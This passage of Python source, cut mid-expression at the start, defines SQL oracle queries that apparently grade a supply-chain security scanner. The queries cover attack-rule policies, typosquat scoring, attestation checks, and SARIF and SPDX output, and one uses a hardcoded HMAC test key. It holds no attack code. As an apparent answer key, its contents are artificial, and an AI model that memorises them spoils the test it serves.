  (atk_id = 'ATK-001' AND is_dist_build) OR (atk_id = 'ATK-002' AND package = 17) OR (atk_id = 'ATK-003' AND NOT is_test_fixture AND regexp_matches(file_path, '^src/1/[^/]*\\.js$'))
  OR (atk_id = 'ATK-006' AND url_domain IN ('a.example.com', 'cdn.example.com')) OR (atk_id = 'ATK-007' AND trusted) OR (atk_id = 'ATK-008' AND NOT provenance_verified))) """.replace("{0}", pick_sql(DOMAINS, "finding_id"))
ORACLE["policy_applied"] = _F + _RULED + "SELECT finding_id, severity FROM kept"
_RANK = "CASE severity WHEN 'critical' THEN 5 WHEN 'high' THEN 4 WHEN 'medium' THEN 3 WHEN 'low' THEN 2 WHEN 'info' THEN 1 ELSE 0 END"
ORACLE["policy_blocked"] = _F + _RULED + f"SELECT scan_id, max({_RANK}) AS worst_rank, max({_RANK}) >= 4 AS blocked FROM kept GROUP BY scan_id"
ORACLE["fn_integrity_hex"] = "SELECT o_orderkey, sha256(CAST(o_orderkey AS VARCHAR)) AS digest FROM orders"
_KIND = """CASE WHEN o_orderkey % 11 = 0 THEN 'none' WHEN o_orderkey % 13 = 0 THEN 'malformed' WHEN o_orderkey % 5 = 0 THEN 'subject_mismatch' WHEN o_orderkey % 7 = 0 THEN 'digest_unbound'
  WHEN o_orderkey % 3 = 0 THEN 'repo_mismatch' ELSE 'present' END"""
ORACLE["attestation"] = f"""SELECT 'p' || CAST(o_custkey AS VARCHAR) AS package, '1.0.0' AS version, {_KIND} AS kind,
  CASE {_KIND} WHEN 'none' THEN 15 WHEN 'malformed' THEN 25 WHEN 'subject_mismatch' THEN 85 WHEN 'digest_unbound' THEN 80 WHEN 'repo_mismatch' THEN 60 ELSE 10 END AS score, count(*) AS n FROM orders GROUP BY ALL"""
ORACLE["ioc_integrity"] = """SELECT o_orderkey, 'p' || CAST(o_custkey AS VARCHAR) AS package FROM orders WHERE o_orderkey % 17 = 0"""
ORACLE["typosquat_scores"] = f"""WITH p AS (SELECT {pick_sql(NAMES, 'c_custkey')} || CASE WHEN c_custkey > 10 THEN CAST(c_custkey AS VARCHAR) ELSE '' END AS name, c_custkey * 37 % 500 AS age, c_custkey * 7919 % 200000 AS week FROM customer),
q AS (SELECT *, regexp_replace(name, '^@[^/]+/', '') AS part FROM p WHERE name <> 'lodash' AND regexp_replace(name, '^@[^/]+/', '') <> 'lodash'),
t AS (SELECT unnest({listed(TARGETS)}) AS target, generate_subscripts({listed(TARGETS)}, 1) AS no),
b AS (SELECT name, target, no, CASE levenshtein(name, target) WHEN 1 THEN 75 ELSE 45 END AS base FROM q, t WHERE name NOT LIKE '@%' AND levenshtein(name, target) BETWEEN 1 AND 2
  UNION ALL SELECT name, target, no, 60 FROM q, t WHERE name NOT LIKE '@%' AND name <> target AND length(name) = length(target) AND translate(name, '01345678@', 'oleasgtba') = translate(target, '01345678@', 'oleasgtba')
  UNION ALL SELECT name, target, no, 80 FROM q, t WHERE name LIKE '@%' AND part = target),
m AS (SELECT name, max(struct_pack(base := base, no := -no, target := target)) AS m FROM b GROUP BY name)
SELECT name, m.target AS target, CAST(least(100, greatest(50, m.base + CASE WHEN age < 30 THEN 15 ELSE 0 END + CASE WHEN week < 1000 THEN 10 ELSE 0 END - CASE WHEN age >= 365 AND week >= 100000 THEN 30 ELSE 0 END)) AS INT) AS score FROM m JOIN p USING (name)"""
ORACLE["sarif_results"] = _F + """, r AS (SELECT finding_id, atk_id, severity, list_sort(list(DISTINCT struct_pack(file := file_path, line := CASE WHEN finding_id % 3 > 0 THEN CAST(finding_id % 50 AS INT) ELSE 1 END))) AS places FROM f GROUP BY ALL)
SELECT finding_id, CAST(to_json(struct_pack(ruleId := atk_id, level := CASE WHEN severity IN ('critical', 'high') THEN 'error' WHEN severity = 'medium' THEN 'warning' ELSE 'note' END, locations := places)) AS VARCHAR) AS result FROM r"""
ORACLE["sbom_spdx"] = _F + """, a AS (SELECT package, version, list_sort(list(DISTINCT '[' || atk_id || '] ' || upper(severity) || ': ' || description)) AS notes FROM f GROUP BY ALL),
n AS (SELECT package, version, CAST(package AS VARCHAR) AS name, list_transform(notes, lambda n: struct_pack(annotationType := 'OTHER', annotator := 'Tool: tarnwatch', comment := n)) AS notes FROM a)
SELECT package, version, CAST(to_json(struct_pack(spdxVersion := 'SPDX-2.3', dataLicense := 'CC0-1.0', SPDXID := 'SPDXRef-DOCUMENT', name := name || '@' || version,
  packages := [struct_pack(SPDXID := 'SPDXRef-Package', name := name, versionInfo := version, primaryPackagePurpose := 'LIBRARY', externalRefs := [struct_pack(referenceCategory := 'PACKAGE-MANAGER', referenceType := 'purl', referenceLocator := 'pkg:npm/' || name || '@' || version)])],
  annotations := notes)) AS VARCHAR) AS spdx FROM n"""
_PAD = lambda x: "from_hex('" + bytes(c ^ x for c in b"a key".ljust(64, b"\0")).hex() + "')"
ORACLE["provenance_record"] = WITH + f""", r AS (SELECT package AS rule, sha256(package || chr(10) || array_to_string(list_sort([version, publisher]), chr(10))) AS digest FROM packages)
SELECT rule, digest, sha256({_PAD(0x5C)} || from_hex(sha256({_PAD(0x36)} || encode(digest)))) AS hmac FROM r"""
ORACLE["fp_examples"] = _F + "SELECT detector, finding_id, position FROM (SELECT detector, finding_id, row_number() OVER (PARTITION BY detector ORDER BY finding_id) AS position FROM (SELECT DISTINCT detector, finding_id FROM f)) WHERE position <= 5"
ORACLE["reputable_bail"] = """SELECT * FROM (SELECT o_orderkey, CASE o_orderkey % 5 WHEN 1 THEN 'left' WHEN 3 THEN 'lodash2' END AS package, CASE o_orderkey % 3 WHEN 0 THEN '9.9.9' WHEN 1 THEN '99.99.99' END AS version, CASE o_orderkey % 3 WHEN 0 THEN 65 ELSE 85 END AS score FROM orders)
WHERE package IS NOT NULL AND version IS NOT NULL"""
